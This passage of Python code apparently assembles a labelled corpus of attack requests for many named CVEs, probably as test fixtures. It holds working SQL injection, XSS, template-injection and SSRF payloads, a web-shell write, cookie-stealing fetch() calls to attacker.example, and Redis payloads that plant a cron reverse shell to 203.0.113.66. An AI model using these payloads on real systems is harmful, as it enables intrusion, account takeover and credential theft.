   q("order_by", "ID AND (SELECT 42 FROM (SELECT(SLEEP(5)))b)", more=[("order", "DESC")])),
  ("query", "(CASE WHEN (1=1) THEN post_title ELSE ID END)",
   get("/wp-json/lp/v1/courses/archive-course?order_by=" + enc("(CASE WHEN (1=1) THEN post_title ELSE ID END)"))))

X("sqli", "joomla-com-fields-cve-2017-8917",
  ("param-name", "list[fullordering]=updatexml(0x23,concat(1,user()),1)",
   get("/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)")),
  ("query", "updatexml(0x3a,concat(1,(select md5(1))),1)",
   get("/index.php?option=com_fields&view=fields&layout=modal&list%5Bfullordering%5D=updatexml%280x3a%2Cconcat"
       "%281%2C%28select%20md5%281%29%29%29%2C1%29")),
  ("query", "(SELECT 1 FROM (SELECT SLEEP(5))a)",
   get("/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=(SELECT%201%20FROM%20"
       "(SELECT%20SLEEP(5))a)")),
  ("query", "extractvalue(0x0a,concat(0x0a,(select password from #__users limit 1)))",
   get("/api/users?option=com_fields&list%5Bfullordering%5D=" + enc(
       "extractvalue(0x0a,concat(0x0a,(select password from #__users limit 1)))"))),
  ("form", "updatexml(0x23,concat(1,user()),1)", adm("list[fullordering]", "updatexml(0x23,concat(1,user()),1)")))

X("sqli", "joomla-contenthistory-cve-2015-7297",
  ("query", "(select 1 FROM(select count(*),concat((select (select concat(password)) FROM #__users LIMIT 0,1),"
            "floor(rand(0)*2))x FROM information_schema.tables GROUP BY x)a)",
   get("/index.php?option=com_contenthistory&view=history&list[ordering]=&item_id=1&type_id=1&list[select]=" + enc(
       "(select 1 FROM(select count(*),concat((select (select concat(password)) FROM #__users LIMIT 0,1),"
       "floor(rand(0)*2))x FROM information_schema.tables GROUP BY x)a)"))),
  ("query", "(select 1 FROM(select count(*),concat((select (select concat(session_id)) FROM #__session "
            "WHERE data LIKE 0x25 LIMIT 0,1),floor(rand(0)*2))x FROM information_schema.tables GROUP BY x)a)",
   get("/index.php?option=com_contenthistory&view=history&list[ordering]=&item_id=75&type_id=1&list[select]=" + enc(
       "(select 1 FROM(select count(*),concat((select (select concat(session_id)) FROM #__session WHERE data "
       "LIKE 0x25 LIMIT 0,1),floor(rand(0)*2))x FROM information_schema.tables GROUP BY x)a)"))),
  ("query", "(select 1 FROM(select count(*),concat(version(),floor(rand(0)*2))x FROM information_schema.tables "
            "GROUP BY x)a)",
   q("list[select]", "(select 1 FROM(select count(*),concat(version(),floor(rand(0)*2))x FROM "
                     "information_schema.tables GROUP BY x)a)")))

DRUPAL_SQLI = ("0 ;update users set name='owned' , pass = '$S$DkIkdKLIvRK0iVHm99X7B/M8QC17E1Tp/kMOd1Ie8V/PgWjtAZld'"
               " where uid = '1';;# ")
X("sqli", "drupal-expandarguments-cve-2014-3704",
  ("param-name", DRUPAL_SQLI, form("/?q=node&destination=node", [(f"name[{DRUPAL_SQLI}]", "bob"), ("name[0]", "larry"),
                                                                  ("pass", "lol"), ("form_build_id", ""),
                                                                  ("form_id", "user_login_block"), ("op", "Log in")])),
  ("param-name", "0 and extractvalue(1,concat(0x5c,(select user())))#",
   form("/user/login", [("name[0 and extractvalue(1,concat(0x5c,(select user())))#]", "a"), ("name[0]", "b"),
                        ("pass", "x"), ("form_id", "user_login"), ("op", "Log in")])),
  ("param-name", "0;insert into users (uid,name) values (99,'x');#",
   adm("name[0;insert into users (uid,name) values (99,'x');#]", "a", [("name[0]", "b")])),
  ("param-name", "0 union select sleep(5)#",
   get("/api/users?name%5B0%20union%20select%20sleep(5)%23%5D=a&name%5B0%5D=b")))

X("sqli", "moveit-transfer-cve-2023-34362",
  ("header:X-siLock-SessVar4", "MyGuestEmailAddr: a@b.c'); INSERT INTO activesessions ...",
   get("/moveitisapi/moveitisapi.dll?action=m2", {
       "X-siLock-Transaction": "folder_add_by_path", "X-siLock-Method": "session_setvars",
       "X-siLock-SessVar0": "MyUsername: Guest", "X-siLock-SessVar1": "MyPkgAccessCode: 123",
       "X-siLock-SessVar2": "MyPkgID: 0", "X-siLock-SessVar3": "MyPkgValidationMode: 1",
       "X-siLock-SessVar4": "MyGuestEmailAddr: a@b.c'); INSERT INTO activesessions (SessionID) VALUES ('x1');"
                            "UPDATE activesessions SET Username=(SELECT Username FROM users ORDER BY Permission DESC "
                            "LIMIT 1) WHERE SessionID='x1';-- "})),
  ("form", "Arg06=... transaction=secmsgpost", form("/guestaccess.aspx", [
      ("Arg06", "123"), ("transaction", "secmsgpost"), ("Arg05", "send"), ("Arg08", "a@b.c"),
      ("Arg09", "'); UPDATE activesessions SET Username='sysadmin' WHERE SessionID='x1';-- ")])),
  ("header:X-siLock-SessVar5", "MyPkgSelfProvisionedRecips: ...; DROP TABLE ...",
   get("/api/users", {"X-siLock-Transaction": "folder_add_by_path",
                      "X-siLock-SessVar5": "MyPkgSelfProvisionedRecips: SQL Injection'); UPDATE users SET "
                                           "Permission=50 WHERE Username='guest';-- "})),
  ("form", "Arg09='; SELECT ... FROM users --", adm("Arg09", "x'); SELECT LoginName, Password FROM users;-- ")))

MAGENTO_FILTER = ("popularity[from]=0&popularity[to]=3&popularity[field_expr]=0);SET @SALT = 'rp';SET @PASS = "
                  "CONCAT(MD5(CONCAT( @SALT , 'forme') ), CONCAT(':', @SALT ));SELECT @EXTRA := MAX(extra) FROM "
                  "admin_user WHERE extra IS NOT NULL;INSERT INTO `admin_user` (`firstname`, `lastname`,`email`,"
                  "`username`,`password`,`created`,`lognum`,`reload_acl_flag`,`is_active`,`extra`,`rp_token`,"
                  "`rp_token_created_at`) VALUES ('Firstname','Lastname','email@example.com','forme',@PASS,NOW(),0,0,1,"
                  "@EXTRA,NULL, NOW());")
X("sqli", "magento-shoplift-cve-2015-1397",
  ("form", "filter=base64(popularity[field_expr]=0);SET @SALT ... INSERT INTO admin_user ...)",
   form("/index.php/admin/Cms_Wysiwyg/directive/index/", [
       ("filter", b64(MAGENTO_FILTER)),
       ("___directive", "e3tibG9jayB0eXBlPUFkbWluaHRtbC9yZXBvcnRfc2VhcmNoX2dyaWQgb3V0cHV0PWdldENzdkZpbGV9fQ"),
       ("forwarded", "1")])),
  ("form", MAGENTO_FILTER, form_raw("/admin/users/search", f"csrf_token={CSRF}&" + MAGENTO_FILTER.replace(
      " ", "+").replace("`", "%60").replace("@", "%40"))),
  ("query", "popularity[field_expr]=0);SELECT SLEEP(5);", get(
      "/index.php/admin/Cms_Wysiwyg/directive/index/?popularity%5Bfrom%5D=0&popularity%5Bto%5D=3"
      "&popularity%5Bfield_expr%5D=0%29%3BSELECT+SLEEP%285%29%3B")))

X("sqli", "vbulletin-cve-2020-12720",
  ("form", "nodeId[nodeid]=1 UNION SELECT 26,25,...,\"vbulletinrce\",...;--",
   form("/ajax/api/content_infraction/getIndexableContent", [("nodeId[nodeid]", "1 UNION SELECT 26,25,24,23,22,21,20,"
                                                                                "19,20,17,16,15,14,13,12,11,10,\"vbulletinrce\",8,7,6,5,4,3,2,1;--")])),
  ("form", "nodeId[nodeid]=1 UNION SELECT ... username,token FROM user --",
   form("/ajax/api/content_infraction/getIndexableContent", [
       ("nodeId[nodeid]", "1 UNION SELECT 26,25,24,23,22,21,20,19,20,17,16,15,14,13,12,11,10,"
                          "concat(username,0x3a,token),8,7,6,5,4,3,2,1 FROM user WHERE userid=1;--")])),
  ("form", "1 UNION SELECT 1,2,3;--", adm("nodeId[nodeid]", "1 UNION SELECT 1,2,3;--")))

X("sqli", "zabbix-jsrpc-cve-2016-10134",
  ("query", "profileIdx2=updatexml(0,concat(0xa,user()),0)",
   get("/jsrpc.php?type=0&mode=1&method=screen.get&profileIdx=web.item.graph&resourcetype=17"
       "&profileIdx2=updatexml(0,concat(0xa,user()),0)")),
  ("query", "profileIdx2=updatexml(0,concat(0xa,(select concat(alias,0x7e,passwd) from users limit 1)),0)",
   get("/zabbix/jsrpc.php?sid=0bcd4ade648214dc&type=9&method=screen.get&timestamp=1471403798083&mode=2"
       "&screenid=&groupid=&hostid=0&pageFile=history.php&profileIdx=web.item.graph&profileIdx2=" + enc(
           "updatexml(0,concat(0xa,(select concat(alias,0x7e,passwd) from users limit 1)),0)")
       + "&action=showlatest&itemids[23297]=23297&filter=&filter_task=&mark_color=1")),
  ("query", "profileIdx2=(select 1 from (select sleep(5))x)",
   q("profileIdx2", "(select 1 from (select sleep(5))x)", more=[("method", "screen.get")])))

X("sqli", "fortiweb-fabric-cve-2025-25257",
  ("header:Authorization", "Bearer AAAAAA'or'1'='1", hd("Authorization", "Bearer AAAAAA'or'1'='1",
                                                         "/api/fabric/device/status")),
  ("header:Authorization", "Bearer ';SELECT/**/SLEEP(5)#", hd("Authorization", "Bearer ';SELECT/**/SLEEP(5)#",
                                                              "/api/users")),
  ("header:Authorization", "Bearer ';SELECT/**/0x3c3f70687020...'/**/INTO/**/OUTFILE/**/'../../lib/x.pth'#",
   hd("Authorization", "Bearer ';SELECT/**/0x3c3f7068702073797374656d28)/**/INTO/**/OUTFILE/**/"
                       "'../../lib/python3.10/site-packages/x.pth'#", "/api/fabric/device/status")))

# ===== XSS in well-known products ==========================================================================

X("xss", "citrix-oauth-logout-cve-2023-24488",
  ("query", "\r\n\r\n<script>alert(document.domain)</script>",
   get("/oauth/idp/logout?post_logout_redirect_uri=%0d%0a%0d%0a%3Cscript%3Ealert(document.domain)%3C/script%3E")),
  ("query", "<img src=x onerror=alert(document.cookie)>",
   get("/oauth/idp/logout?post_logout_redirect_uri=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E")),
  ("query", "javascript:alert(1)", get("/oauth/idp/logout?post_logout_redirect_uri=javascript:alert(1)")),
  ("query", "\r\n\r\n<svg/onload=alert(1)>", get("/oauth/logout?post_logout_redirect_uri=%0D%0A%0D%0A%3Csvg/"
                                                   "onload=alert(1)%3E")))

X("xss", "jira-wallboard-cve-2018-20824",
  ("query", "alert(document.domain)", get("/plugins/servlet/Wallboard/?dashboardId=10000&dashboardId=10000"
                                          "&cyclePeriod=alert(document.domain)")),
  ("query", "(function(){alert(document.cookie)})()", get("/plugins/servlet/Wallboard/?dashboardId=10100"
                                                          "&cyclePeriod=(function(){alert(document.cookie)})()")),
  ("query", "alert(document.domain)", q("cyclePeriod", "alert(document.domain)", more=[("dashboardId", "10000")])))

X("xss", "grafana-snapshot-cve-2021-41174",
  ("path", "{{constructor.constructor('alert(document.domain)')()}}",
   get("/dashboard/snapshot/%7B%7Bconstructor.constructor(%27alert(document.domain)%27)()%7D%7D?orgId=1")),
  ("path", "{{constructor.constructor('alert(1)')()}}",
   get("/api/users/%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D")),
  ("query", "{{constructor.constructor('fetch(`//attacker.example/`+document.cookie)')()}}",
   q("q", "{{constructor.constructor('fetch(`//attacker.example/`+document.cookie)')()}}")))

X("xss", "zimbra-cve-2022-27926",
  ("query", "1\"><script>alert(document.domain)</script>",
   get("/public/launchNewWindow.jsp?st=acct&u=1&fromAddress=1%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E")),
  ("query", "\"><img src=x onerror=alert(1)>", get("/public/launchNewWindow.jsp?skin=%22%3E%3Cimg%20src=x%20onerror="
                                                   "alert(1)%3E")),
  ("query", "1\"><script>alert(document.domain)</script>", q("fromAddress",
                                                             "1\"><script>alert(document.domain)</script>")))

X("xss", "tomcat-examples",
  ("query", "<script>alert(1)</script>", get("/examples/servlets/servlet/SessionExample?dataname=%3Cscript%3Ealert(1)"
                                             "%3C/script%3E&datavalue=x")),
  ("path", "<script>alert(document.cookie)</script>",
   get("/examples/jsp/snp/snoop.jsp;%3Cscript%3Ealert(document.cookie)%3C/script%3E")),
  ("query", "\"><script>alert(document.domain)</script>",
   get("/examples/jsp/jsp2/el/implicit-objects.jsp?foo=%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E")))

X("xss", "wordpress-search",
  ("query", "\"><script>alert(1)</script>", get("/?s=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
  ("query", "</title><svg onload=alert(document.domain)>", get("/search/%3C%2Ftitle%3E%3Csvg%20onload%3Dalert(document."
                                                               "domain)%3E")),
  ("query", "\"><script>alert(1)</script>", q("s", "\"><script>alert(1)</script>")),
  ("form", "'\"><img src=x onerror=prompt(1)>", adm("s", "'\"><img src=x onerror=prompt(1)>")))

X("xss", "reflected-probe",
  ("query", "\"><svg/onload=alert(document.domain)>", q("q", "\"><svg/onload=alert(document.domain)>")),
  ("query", "javascript:alert(document.cookie)//", q("redirect", "javascript:alert(document.cookie)//",
                                                     "/auth/slack/callback")),
  ("query", "'-alert(1)-'", q("q", "'-alert(1)-'", "/api/users/42")),
  ("query", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
            "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
   q("q", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
          "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e")),
  ("form", "<details open ontoggle=alert(1)>", adm("q", "<details open ontoggle=alert(1)>")),
  ("header:Referer", "https://example.com/\"><script>alert(1)</script>",
   hd("Referer", "https://example.com/\"><script>alert(1)</script>", "/admin/")))

X("xss", "stored-profile",
  ("json", "<script src=https://xss.attacker.example/x.js></script>",
   js("bio", "<script src=https://xss.attacker.example/x.js></script>")),
  ("json", "<img src=x onerror=fetch('//attacker.example/?c='+document.cookie)>",
   me("display_name", "<img src=x onerror=fetch('//attacker.example/?c='+document.cookie)>")),
  ("json", "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
   js("title", "<iframe srcdoc=\"<script>parent.alert(1)</script>\">", "/api/users/42", "PUT")),
  ("json", "<a href=\"javascript:alert(1)\">click</a>", slack("my site is <a href=\"javascript:alert(1)\">click</a>")))

# ===== SSTI ================================================================================================

X("ssti", "jinja2",
  ("query", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
   q("q", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}")),
  ("form", "{{''.__class__.__mro__[1].__subclasses__()}}", adm("q", "{{''.__class__.__mro__[1].__subclasses__()}}")),
  ("json", "{{cycler.__init__.__globals__.os.popen('id').read()}}",
   js("name", "{{cycler.__init__.__globals__.os.popen('id').read()}}")),
  ("json", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
   me("signature", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}")),
  ("query", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
            "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
            "|attr('popen')('id')|attr('read')()}}",
   q("name", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
             "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')"
             "('os')|attr('popen')('id')|attr('read')()}}")),
  ("json", "{{7*'7'}}", slack("hey bot, lookup user {{7*'7'}}")))

X("ssti", "twig",
  ("query", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
   q("q", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}")),
  ("form", "{{['id']|filter('system')}}", adm("q", "{{['id']|filter('system')}}")),
  ("json", "{{['cat /etc/passwd']|map('passthru')|join}}", js("bio", "{{['cat /etc/passwd']|map('passthru')|join}}")),
  ("query", "{{app.request.server.all|join(',')}}", q("name", "{{app.request.server.all|join(',')}}")),
  ("json", "{% set a = ['id']|filter('system') %}{{a}}",
   me("signature", "{% set a = ['id']|filter('system') %}{{a}}")))

X("ssti", "freemarker",
  ("query", "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }",
   q("q", "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }")),
  ("form", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
   adm("q", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}")),
  ("json", "<#assign classloader=article.class.protectionDomain.classLoader>...",
   js("bio", "<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("
             "\"freemarker.template.ObjectWrapper\")><#assign dwf=owc.getField(\"DEFAULT_WRAPPER\").get(null)>"
             "<#assign ec=classloader.loadClass(\"freemarker.template.utility.Execute\")>${dwf.newInstance(ec,null)"
             "(\"id\")}")),
  ("json", "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
           ".toURL().openStream().readAllBytes()?join(\" \")}",
   me("display_name", "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI()"
                      ".resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}")),
  ("query", "${7*7}#{7*7}", q("name", "${7*7}#{7*7}")))

X("ssti", "velocity",
  ("query", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))"
            "$ex.waitFor()",
   q("q", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))"
          "$ex.waitFor()")),
  ("form", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
   adm("q", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")")),
  ("json", "#set($s=\"\")$s.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")",
   js("bio", "#set($s=\"\")$s.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")")),
  ("json", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
           ".invoke(null,null).exec(\"id\")",
   slack("template test #set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
         ".invoke(null,null).exec(\"id\")")))

X("ssti", "smarty",
  ("query", "{php}echo `id`;{/php}", q("q", "{php}echo `id`;{/php}")),
  ("form", "{system('id')}", adm("q", "{system('id')}")),
  ("json", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
           "self::clearConfig())}",
   js("bio", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
             "self::clearConfig())}")),
  ("query", "{$smarty.version}{if system('id')}{/if}", q("name", "{$smarty.version}{if system('id')}{/if}")))

X("ssti", "erb",
  ("query", "<%= `id` %>", q("q", "<%= `id` %>")),
  ("form", "<%= system(\"cat /etc/passwd\") %>", adm("q", "<%= system(\"cat /etc/passwd\") %>")),
  ("json", "<%= IO.popen('id').readlines() %>", js("bio", "<%= IO.popen('id').readlines() %>")),
  ("json", "<%= File.open('/etc/passwd').read %>", me("signature", "<%= File.open('/etc/passwd').read %>")))

TL = "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x"
X("ssti", "thymeleaf-view-manipulation",
  ("query", TL, q("lang", TL, "/")),
  ("path", "__${T(java.lang.Runtime).getRuntime().exec(\"touch executed\")}__::.x",
   get("/doc/" + enc("__${T(java.lang.Runtime).getRuntime().exec(\"touch executed\")}__::.x"))),
  ("query", TL, q("section", TL, "/api/users")),
  ("form",
   "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
   adm("q", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id')"
            ".getInputStream())}")))

HBS = ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
       "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "
       "\"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub"
       ".apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")
X("ssti", "handlebars",
  ("query", HBS, q("q", HBS)),
  ("json", HBS, js("bio", HBS)),
  ("form", HBS, adm("q", HBS)))

X("ssti", "tornado",
  ("query", "{% import os %}{{ os.popen(\"id\").read() }}", q("q", "{% import os %}{{ os.popen(\"id\").read() }}")),
  ("form", "{% import subprocess %}{{ subprocess.check_output('id', shell=True) }}",
   adm("q", "{% import subprocess %}{{ subprocess.check_output('id', shell=True) }}")),
  ("json", "{{handler.settings}}", js("name", "{{handler.settings}}")))

WS1 = "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/hosts\")}"
X("ssti", "vmware-workspace-one-cve-2022-22954",
  ("query", WS1 + " (every byte percent-encoded)",
   get("/catalog-portal/ui/oauth/verify?error=&deviceUdid=" + "".join(f"%{b:02x}" for b in WS1.encode()))),
  ("query", WS1, get("/catalog-portal/ui/oauth/verify?error=&deviceUdid=" + enc(WS1))),
  ("query", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
   get("/catalog-portal/ui?code=&deviceType=&deviceUdid="
       + enc("${\"freemarker.template.utility.Execute\"?new()(\"id\")}"))),
  ("query", WS1, q("deviceUdid", WS1, "/oauth/verify", more=[("error", "")])))

JIRA_VM = ("$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null)"
           f".exec('curl http://{OOB}/jira').waitFor()")
X("ssti", "jira-contactadministrators-cve-2019-11581",
  ("form", JIRA_VM, form("/secure/ContactAdministrators.jspa", [("from", "a@example.org"), ("subject", JIRA_VM),
                                                                ("details", "x"), ("atl_token", "B3WY-Y7OK"),
                                                                ("Send", "Send")])),
  ("form", JIRA_VM, adm("subject", JIRA_VM)),
  ("json", JIRA_VM, js("title", JIRA_VM)))

# ===== generic: SSRF, XXE, Node.js, auth bypasses ==========================================================

X("generic", "ssrf-aws-metadata",
  ("query", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
   q("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")),
  ("json", "http://169.254.169.254/latest/user-data", js("avatar_url", "http://169.254.169.254/latest/user-data")),
  ("form", "http://2852039166/latest/meta-data/", adm("webhook", "http://2852039166/latest/meta-data/")),
  ("json", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", me("webhook_url",
                                                             "http://[::ffff:a9fe:a9fe]/latest/meta-data/")),
  ("query", "http://169.254.169.254.nip.io/latest/meta-data/iam/security-credentials/ec2-role",
   q("callback", "http://169.254.169.254.nip.io/latest/meta-data/iam/security-credentials/ec2-role", "/api/users/42")),
  ("json", "http://169.254.170.2/v2/credentials/", slack("unfurl this http://169.254.170.2/v2/credentials/")))

X("generic", "ssrf-gcp-metadata",
  ("query", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
   q("url", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token")),
  ("json", "http://metadata.google.internal/computeMetadata/v1beta1/?recursive=true",
   js("website", "http://metadata.google.internal/computeMetadata/v1beta1/?recursive=true")),
  ("form", "http://169.254.169.254/computeMetadata/v1/project/project-id",
   adm("image_url", "http://169.254.169.254/computeMetadata/v1/project/project-id")),
  ("query", "http://metadata/computeMetadata/v1/instance/attributes/kube-env?alt=json",
   q("feed", "http://metadata/computeMetadata/v1/instance/attributes/kube-env?alt=json")))

X("generic", "ssrf-azure-metadata",
  ("query", "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
   q("url", "http://169.254.169.254/metadata/instance?api-version=2021-02-01")),
  ("json",
   "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
   js("avatar_url", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
                    "&resource=https://management.azure.com/")),
  ("form", "http://169.254.169.254/metadata/instance/compute?api-version=2021-01-01&format=json",
   oauth([("grant_type", "authorization_code"), ("code", "x"),
          ("redirect_uri", "http://169.254.169.254/metadata/instance/compute?api-version=2021-01-01&format=json")])))

X("generic", "ssrf-other-clouds",
  ("query", "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
   q("url", "http://100.100.100.200/latest/meta-data/ram/security-credentials/")),
  ("json", "http://169.254.169.254/opc/v2/instance/", js("webhook", "http://169.254.169.254/opc/v2/instance/")),
  ("form", "http://169.254.169.254/metadata/v1.json", adm("url", "http://169.254.169.254/metadata/v1.json")))

GOPHER_REDIS = ("gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1"
                "%0D%0A%2464%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%20%3E%26%20/dev/tcp/203.0.113.66/"
                "4444%200%3E%261%0A%0A%0A%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A"
                "%2416%0D%0A/var/spool/cron/%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%2410%0D%0A"
                "dbfilename%0D%0A%244%0D%0Aroot%0D%0A%2A1%0D%0A%244%0D%0Asave%0D%0A")
X("generic", "ssrf-gopher-redis",
  ("query", GOPHER_REDIS, q("url", GOPHER_REDIS)),
  ("json", GOPHER_REDIS, js("avatar_url", GOPHER_REDIS)),
  ("form", "gopher://127.0.0.1:6379/_CONFIG SET dir /var/www/html ... SAVE",
   adm("webhook", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20"
                  "shell.php%0D%0ASET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0AQUIT")),
  ("query", "gopher://localhost:6379/_SLAVEOF 203.0.113.66 6379",
   q("callback", f"gopher://localhost:6379/_SLAVEOF%20{ATK}%206379%0D%0AQUIT", "/api/users/42")),
  ("json", "gopher://[0:0:0:0:0:ffff:127.0.0.1]:6379/_INFO", me("webhook_url",
                                                                "gopher://[0:0:0:0:0:ffff:127.0.0.1]:6379/_INFO")))

X("generic", "ssrf-dict-redis",
  ("query", "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/spool/cron/", q("url",
                                                                             "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/spool/cron/")),
  ("json", "dict://127.0.0.1:6379/info", js("website", "dict://127.0.0.1:6379/info")),
  ("form", "dict://localhost:6379/slaveof:203.0.113.66:6379", adm("url", f"dict://localhost:6379/slaveof:{ATK}:6379")))

X("generic", "ssrf-gopher-memcached",
  ("query", "gopher://127.0.0.1:11211/_set ssrftest 1 0 147 a:2:{...}",
   q("url", "gopher://127.0.0.1:11211/_%0d%0aset%20ssrftest%201%200%20147%0d%0aa:2:%7bs:6:%22output%22;a:1:%7bs:4:"
            "%22preg%22;a:2:%7bs:6:%22search%22;s:5:%22/.*/e%22;s:7:%22replace%22;s:33:%22eval(base64_decode("
            "$_POST%5bccc%5d));%22;%7d%7ds:13:%22rewritestatus%22;i:1;%7d%0d%0a")),
  ("json", "dict://127.0.0.1:11211/stats", js("avatar_url", "dict://127.0.0.1:11211/stats")),
  ("form", "gopher://127.0.0.1:11211/_stats%0d%0aquit", adm("feed_url", "gopher://127.0.0.1:11211/_stats%0d%0aquit")))

X("generic", "mod-proxy-unix-ssrf-cve-2021-40438",
  ("query", "unix:" + "A" * 12 + "...|http://169.254.169.254/latest/meta-data/",
   get("/?unix:" + "A" * 5000 + "|http://169.254.169.254/latest/meta-data/")),
  ("query", "unix:AAAA...|http://127.0.0.1:8080/admin",
   get("/api/users?unix:" + "A" * 5000 + "|http://127.0.0.1:8080/admin")),
  ("query", f"unix:AAAA...|http://{OOB}/", get("/proxy/?unix:" + "A" * 5000 + f"|http://{OOB}/")))

X("generic", "jira-makerequest-ssrf-cve-2019-8451",
  ("query", "https://victim.example@169.254.169.254/latest/meta-data/",
   get("/plugins/servlet/gadgets/makeRequest?url=https://victim.example@169.254.169.254/latest/meta-data/")),
  ("query", f"https://victim.example:443@{OOB}",
   get(f"/plugins/servlet/gadgets/makeRequest?url=https://victim.example:443@{OOB}")),
  ("query", "https://victim.example@127.0.0.1:8080/", q("url", "https://victim.example@127.0.0.1:8080/",
                                                       more=[("httpMethod", "GET")])))

X("generic", "weblogic-uddi-ssrf-cve-2014-4210",
  ("query", "operator=http://127.0.0.1:7001",
   get("/uddiexplorer/SearchPublicRegistries.jsp?operator=http://127.0.0.1:7001"
                                                  "&rdoSearch=name&txtSearchname=sdf&txtSearchkey=&txtSearchfor="
                                                  "&selfor=Business+location&btnSubmit=Search")),
  ("query", "operator=http://127.0.0.1:6379/test%0D%0A%0D%0Aset%201%20...",
   get("/uddiexplorer/SearchPublicRegistries.jsp?operator=http://127.0.0.1:6379/test%0D%0A%0D%0Aset%201%20%22%5Cn%5Cn"
       "%5Cn%5Cn*%20*%20*%20*%20*%20root%20bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.66%2F4444%200%3E%261%5Cn%5Cn%5Cn"
       "%5Cn%22%0D%0Aconfig%20set%20dir%20%2Fetc%2F%0D%0Aconfig%20set%20dbfilename%20crontab%0D%0Asave%0D%0A%0D%0Aaaa"
